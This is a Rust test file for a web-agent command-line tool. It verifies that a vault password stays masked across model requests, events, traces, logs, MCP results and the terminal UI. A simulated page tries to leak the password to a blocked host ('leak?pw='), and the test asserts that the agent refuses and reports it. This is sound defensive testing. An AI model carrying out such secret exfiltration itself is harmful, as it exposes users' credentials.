/// can (text, title, URL, a field, a link, a downloaded file), and it
/// reaches none of the ways out of the process: the model's requests (the
/// step and `extract`'s), the events on stdout (`--json`), the trace, the
/// log file (at debug, where the CDP client logs what it sends), `exec`'s
/// and `observe`'s output, `read_file` without a model, an MCP client's
/// results, and the workbench's screen.
#[test]
fn a_secret_reaches_no_output_channel() {
    let url = serve_vault();
    let echo = shared().home.url(&format!("/vault/echo?pw={VAULT}"));
    let dir = scratch_dir("vault");
    let config = vault_config(&dir);
    let command = |args: &[&str]| {
        let mut command = webagent();
        command
            .current_dir(&dir)
            .env("WEBAGENT_CONFIG", &config)
            .env("WEBAGENT_TEST_VAULT", VAULT)
            .env("WEBAGENT_LOG", "debug")
            .args(["--log-file", "log/webagent.log"])
            .args(args);
        command
    };
    let placeholder = "<secret>vault</secret>";

    // 1. An agent run: the model, the events, the trace, the log.
    let run = shared().runtime.block_on(async {
        let llm = LlmServer::start(vec![
            reply(
                "type the code",
                json!({"input_text": {"selector": "#pw", "text": placeholder}}),
            ),
            reply(
                "send it",
                json!({"click": {"selector": "button[type=submit]"}}),
            ),
            // The model takes its time: meanwhile the page tries to send
            // the value to a refused host, which is reported as an event.
            Reply::sse(tool_call_events(
                AGENT_TOOL_NAME,
                &json!({
                    "evaluation_previous_goal": "sent",
                    "memory": "",
                    "next_goal": "read what came back",
                    "action": {"read_page": {}},
                }),
                4,
            ))
            .paced(Duration::from_millis(500)),
            reply(
                "extract it",
                json!({"extract": {"instruction": "what was sent"}}),
            ),
            Reply::json(
                200,
                tool_call_completion("extract_result", &json!({"result": "something"})),
            ),
            reply("finish", json!({"done": {"text": "sent", "success": true}})),
        ])
        .await;
        let mut run = command(&["run", "Send the vault code", "--json", "--yes"]);
        let start = shared().home.url("/vault/run");
        run.args([
            "--model",
            "m",
            "--url",
            &start,
            "--base-url",
            &llm.base_url(),
        ]);
        let output = tokio::task::spawn_blocking(move || run.output())
            .await
            .expect("joined")
            .expect("webagent run");
        (output, llm.requests())
    });
    let (output, requests) = run;
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(output.status.code(), Some(0), "{stdout}");
    assert_eq!(requests.len(), 6, "{stdout}");
    let sent: String = requests.iter().map(|r| r.body.clone()).collect();
    assert_no_secret("the model", &sent);
    // The value did reach the page, and came back to the model masked.
    assert!(sent.contains(&format!("You sent {placeholder}")), "{sent}");
    // The page's own attempt was refused and reported, masked.
    assert!(
        stdout.contains("blocked a navigation to")
            && stdout.contains("leak?pw=<secret>vault</secret>"),
        "the refusal is reported:\n{stdout}"
    );
    assert_no_secret("--json events", &stdout);
    assert_no_secret("stderr", &String::from_utf8_lossy(&output.stderr));
    let traces = all_text_under(&dir.join("sessions"));
    assert!(traces.contains("read_page"), "a trace was written");
    assert_no_secret("the trace", &traces);

    // 2. `exec` without a model: its output, a field's value, and
    // `read_file` of a download that holds the value.
    let exec = command(&["exec", &url, "--json", "--observe"])
        .args([
            json!({"input_text": {"selector": "#pw", "text": placeholder}}).to_string(),
            json!({"click": {"selector": "button[type=submit]"}}).to_string(),
            json!({"click": {"selector": "a[download]"}}).to_string(),
            json!({"read_file": {"path": "notes.txt"}}).to_string(),
        ])
        .output()
        .expect("webagent exec");
    let exec_out = String::from_utf8_lossy(&exec.stdout).into_owned();
    assert_eq!(exec.status.code(), Some(0), "{exec_out}");
    assert!(
        exec_out.contains(&format!("the vault code is {placeholder}")),
        "read_file read the file, masked:\n{exec_out}"
    );
    assert_no_secret("exec's output", &exec_out);
    assert_no_secret("exec's stderr", &String::from_utf8_lossy(&exec.stderr));

    // 3. `observe` on a page that shows the value at once.
    let observe = command(&["observe", &echo, "--json"])
        .output()
        .expect("webagent observe");
    let observed = String::from_utf8_lossy(&observe.stdout).into_owned();
    assert!(observed.contains("You sent"), "{observed}");
    assert_no_secret("observe's output", &observed);

    // 4. An MCP client's results.
    let results = shared().runtime.block_on(mcp_results(&dir, &config, &url));
    assert!(results.contains(placeholder), "{results}");
    assert_no_secret("MCP results", &results);

    // 5. The workbench's screen.
    let screen = shared()
        .runtime
        .block_on(workbench_screen(&dir, &config, &echo));
    assert!(screen.contains(placeholder), "{screen}");
    assert_no_secret("the workbench's screen", &screen);

    // The log, written by every command above.
    let log = all_text_under(&dir.join("log"));
    assert!(log.contains("DEBUG"), "the log is at debug level");
    assert_no_secret("the log file", &log);
    let _ = std::fs::remove_dir_all(&dir);
}

/// An MCP session on the vault: the value typed, sent, read back; every
/// result as text.
async fn mcp_results(dir: &std::path::Path, config: &std::path::Path, url: &str) -> String {
    use rmcp::model::CallToolRequestParams;
    use rmcp::transport::TokioChildProcess;
    use rmcp::ServiceExt;
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_webagent"));
    command
        .current_dir(dir)
        .env("WEBAGENT_CONFIG", config)
        .env("WEBAGENT_TEST_VAULT", VAULT)
        .env("WEBAGENT_LOG", "debug")
        .env_remove("OPENAI_API_KEY")
        .args(["--log-file", "log/mcp.log", "mcp", "--yes", "--url", url]);
    let client =
        ().serve(TokioChildProcess::new(command).expect("webagent mcp starts"))
            .await
            .expect("the MCP handshake");
    let mut results = String::new();
    for (name, arguments) in [
        (
            "input_text",
            json!({"selector": "#pw", "text": "<secret>vault</secret>"}),
        ),
        ("click", json!({"selector": "button[type=submit]"})),
        ("read_page", json!({})),
        ("observe", json!({})),
    ] {
        let arguments = arguments.as_object().cloned().unwrap_or_default();
        let result = client
            .call_tool(CallToolRequestParams::new(name).with_arguments(arguments))
            .await
            .unwrap_or_else(|e| panic!("calling {name}: {e}"));
        results.push_str(&serde_json::to_string(&result).unwrap_or_default());
    }
    let _ = client.cancel().await;
    results
}

/// The workbench opened on a page showing the value, as the person sees
/// it once the listing is drawn.
async fn workbench_screen(dir: &std::path::Path, config: &std::path::Path, url: &str) -> String {
    require_tmux_and_chromium();
    let session = TmuxSession(format!("webagent-vault-{}", std::process::id()));
    tmux_start(
        &session.0,
        &format!(
            "cd {dir} && WEBAGENT_CONFIG={config} WEBAGENT_TEST_VAULT={VAULT} WEBAGENT_LOG=debug \
             {bin} --log-file log/tui.log tui --url '{url}'",
            dir = dir.display(),
            config = config.display(),
            bin = env!("CARGO_BIN_EXE_webagent"),
        ),
    );
    let screen = wait_for_screen(&session.0, "again</a>").await;
    tmux_keys(&session.0, &["q"]);
    screen
}
